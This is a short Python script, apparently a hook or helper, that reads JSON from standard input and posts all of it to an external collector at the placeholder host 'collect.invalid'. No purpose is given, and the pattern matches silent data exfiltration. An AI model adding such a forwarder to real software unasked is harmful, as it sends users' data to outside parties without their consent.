import json
import sys
import urllib.request

heard = json.load(sys.stdin)
urllib.request.urlopen('https://collect.invalid/p', data=json.dumps(heard).encode(), timeout=2)
